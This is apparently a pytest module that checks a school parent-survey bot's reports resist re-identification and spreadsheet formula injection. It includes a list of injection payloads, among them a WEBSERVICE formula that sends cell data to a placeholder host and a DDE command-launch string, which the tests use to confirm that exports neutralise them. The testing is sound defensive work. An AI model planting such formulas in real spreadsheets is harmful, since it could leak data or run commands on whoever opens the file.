"""Issue 11: a determined insider cannot single out one parent. One regression test per item,
through the real store and the real report files."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.reports import build_round_report, detail_text, export
from bot.reports.exports import dangerous, neutralised
from bot.reports.privacy import (
    OTHER_LANGUAGES,
    jointly_shown,
    language_cells,
    nameable_languages,
    released_places,
)
from bot.store import SqliteStore
from tests.reports_fixtures import T0, Builder, library, scale_answers

FLOWS = library()
MIXED = ["1", "2", "3", "4", "5"]


@pytest.fixture
async def store(tmp_path: Path):
    async with SqliteStore(tmp_path / "issue11.db") as s:
        yield s


def mixed(i: int, **extra: object) -> dict[str, object]:
    v = MIXED[i % 5]
    answers = scale_answers(v, v, v, v, v)
    answers.update(extra)
    return answers


# ---- item 1: forget-and-shift ----------------------------------------------------------------


def test_released_places_are_whole_blocks_with_no_gap() -> None:
    assert released_places(range(1, 11)) == set(range(1, 11))
    assert released_places([*range(1, 11), 11]) == set(range(1, 11))  # 11 waits for 12..15
    # place 3 forgotten: its block leaves, nobody moves in, place 11 stays out
    assert released_places([1, 2, 4, 5, *range(6, 12)]) == set(range(6, 11))


async def test_forget_never_shifts_a_later_parent_into_a_released_block(store: SqliteStore) -> None:
    """The attack of issue 11: the attacker is the 3rd of ten, the target the 11th; /vergeet."""
    b = Builder(store)
    school = await b.school("School")
    rnd, _ = await b.round(school)
    for i in range(10):
        await b.respond(rnd, mixed(i))
    attacker_chat = b.chat_ids[2]
    await b.respond(rnd, scale_answers("1", "1", "1", "1", "1", opmerking="geheim"))  # target
    before = await build_round_report(store, rnd.id, flows=FLOWS)
    assert before.participation.counted == 10

    await store.forget_chat(attacker_chat, update_id=None, at=T0)
    after = await build_round_report(store, rnd.id, flows=FLOWS)
    assert after.participation.counted == 5  # places 6-10; block 1-5 has a gap and leaves whole
    w1_before, w1_after = before.statement("w1").figure, after.statement("w1").figure
    assert w1_before.n is not None and w1_after.n is not None
    assert w1_before.n - w1_after.n == 5  # two releases differ by a whole block
    assert after.statement("w1").figure.counts == {
        "1": 1,
        "2": 1,
        "3": 1,
        "4": 1,
        "5": 1,
        "dontknow": 0,
    }  # places 6..10: the target (place 11) is not among them

    for i in range(4):  # places 12..15 complete the target's block
        await b.respond(rnd, mixed(i))
    grown = await build_round_report(store, rnd.id, flows=FLOWS)
    assert grown.participation.counted == 10
    rows = await store.run_read(
        "SELECT place FROM respondents WHERE round_id = ? ORDER BY place", [rnd.id]
    )
    assert [r[0] for r in rows] == [1, 2, 4, 5, *range(6, 16)]  # place 3 is never given again


async def test_closing_gives_the_unfinished_their_places_after_the_completed(
    store: SqliteStore,
) -> None:
    b = Builder(store)
    rnd, _ = await b.round(await b.school("School"))
    for i in range(8):
        await b.respond(rnd, mixed(i))
    for _ in range(2):
        await b.respond(rnd, {"w1": "3"})  # stopped halfway
    closed = await build_round_report(store, (await b.close(rnd)).id, flows=FLOWS)
    assert closed.participation.counted == 10
    rows = await store.run_read("SELECT places_given FROM rounds WHERE id = ?", [rnd.id])
    assert rows[0][0] == 10


async def test_a_forget_after_closing_withholds_the_breakdowns(store: SqliteStore) -> None:
    """Found by the property test: after closing, a forgotten parent's block leaves the figures,
    and a class cell would then differ from the released one by two or three parents."""
    b = Builder(store)
    rnd, groups = await b.round(await b.school("School"), groups={"1A": 20, "1B": 20})
    for i, v in enumerate("12345123455432154321"):
        await b.respond(rnd, scale_answers(v, v, v, v, v), group=list(groups.values())[i % 2])
    rnd = await b.close(rnd)
    before = await build_round_report(store, rnd.id, flows=FLOWS)
    assert before.breakdowns["group"].available
    await store.forget_chat(b.chat_ids[0], update_id=None, at=T0)
    after = await build_round_report(store, rnd.id, flows=FLOWS)
    assert after.participation.counted == 15  # the overall figures lose a whole block
    assert after.breakdowns["group"].withheld == "changed"
    assert "veranderden na het afsluiten" in detail_text(after, "groups")


# ---- item 2: class minus language -------------------------------------------------------------


def test_class_minus_language_is_one_parent() -> None:
    """Class 1A: the school's five Turkish families and one Dutch family."""
    cross = {("tr", "1A"): 5, ("nl", "1A"): 1, ("nl", "1B"): 20}
    assert not jointly_shown(cross, 5)
    assert jointly_shown({("tr", "1A"): 5, ("nl", "1A"): 6, ("nl", "1B"): 20}, 5)


async def test_report_withholds_the_language_breakdown_beside_such_a_class(
    store: SqliteStore,
) -> None:
    b = Builder(store)
    rnd, groups = await b.round(await b.school("School"), groups={"1A": 10, "1B": 30})
    for i in range(5):
        await b.respond(rnd, mixed(i), language="tr", group=groups["1A"])
    await b.respond(rnd, mixed(2), language="nl", group=groups["1A"])
    for i in range(19):
        await b.respond(rnd, mixed(i), language="nl", group=groups["1B"])
    report = await build_round_report(store, (await b.close(rnd)).id, flows=FLOWS)
    assert report.breakdowns["language"].withheld == "joint"
    assert report.breakdowns["language"].statements == []


# ---- item 3: nothing hidden can be recomputed --------------------------------------------------


async def test_a_hidden_mean_takes_its_faces_with_it(store: SqliteStore) -> None:
    b = Builder(store)
    rnd, _ = await b.round(await b.school("School"))
    for i in range(10):  # six "don't know", four faces: too few faces for a mean
        await b.respond(rnd, mixed(i, w1="dontknow" if i < 6 else str(2 + i % 3)))
    report = await build_round_report(store, rnd.id, flows=FLOWS)
    w1 = report.statement("w1").figure
    assert not w1.shown and w1.counts is None and w1.n is None
    data = export(report, "csv").decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(data), delimiter=";") if "welkom op" in "".join(r))
    assert all(cell in ("", "–") for cell in row[2:]), row
    themes = detail_text(report, "themes")
    assert "welkom op de school. –" in themes


# ---- item 4: unanimity ------------------------------------------------------------------------


async def test_five_equal_answers_are_hidden_six_mixed_are_shown(store: SqliteStore) -> None:
    b = Builder(store)
    rnd, _ = await b.round(await b.school("School"))
    for i in range(5):
        await b.respond(rnd, mixed(i, w1="5"))
    report = await build_round_report(store, rnd.id, flows=FLOWS)
    assert not report.statement("w1").figure.shown  # five times "5": each parent known
    assert report.statement("w2").figure.shown
    assert '"mean": 5.0' not in report.to_json()


# ---- item 5: small languages never named ----------------------------------------------------


def test_status_merges_small_languages_and_hides_their_complement() -> None:
    """/status: total 8 - Dutch 6 = 2 Turkish. Merged and suppressed together: no count left."""
    assert language_cells({"nl": 6, "tr": 2}, 5) == [("nl", None), (OTHER_LANGUAGES, None)]
    assert language_cells({"nl": 30, "tr": 7, "bg": 3}, 5) == [
        ("nl", 30),
        ("tr", None),
        (OTHER_LANGUAGES, None),
    ]
    assert language_cells({"nl": 30, "tr": 7, "bg": 3, "ar": 4}, 5) == [
        ("nl", 30),
        ("tr", 7),
        (OTHER_LANGUAGES, 7),
    ]


def test_feedback_menu_offers_only_languages_of_enough_families() -> None:
    assert nameable_languages({"nl": 30, "tr": 7, "bg": 1}, 5) == {"nl", "tr"}


# ---- item 7: formula injection -------------------------------------------------------------

PAYLOADS = [
    '=WEBSERVICE("https://x.example/?"&ENCODEURL(B5&B6&B7))',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\r=1+1",
]


def test_neutralised_cells() -> None:
    assert neutralised("=1+1") == "'=1+1"
    assert neutralised("-0,3") == "-0,3" and neutralised("+12%") == "+12%"  # our own numbers
    assert neutralised("gewoon") == "gewoon"


async def test_open_answers_never_become_formulas_in_xlsx_or_csv(store: SqliteStore) -> None:
    b = Builder(store)
    rnd, _ = await b.round(await b.school("School"))
    for i in range(10):
        await b.respond(rnd, mixed(i, opmerking=PAYLOADS[i % len(PAYLOADS)]))
    report = await build_round_report(store, rnd.id, flows=FLOWS)
    assert report.open_answers[0].shown

    xlsx = export(report, "xlsx")
    book = load_workbook(io.BytesIO(xlsx))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and dangerous(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.value, sheet.title)
                    seen += 1
    assert seen >= len(PAYLOADS) - 1  # the engine already trims the tab of one
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:  # no <f> element in any sheet
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)

    text = export(report, "csv").decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text), delimiter=";") for f in row]
    for payload in PAYLOADS[:4]:
        assert payload not in fields and "'" + payload in fields
    for f in fields:
        assert not f.startswith(("=", "+", "@", "\t", "\r")) or f[1:2].isdigit(), f
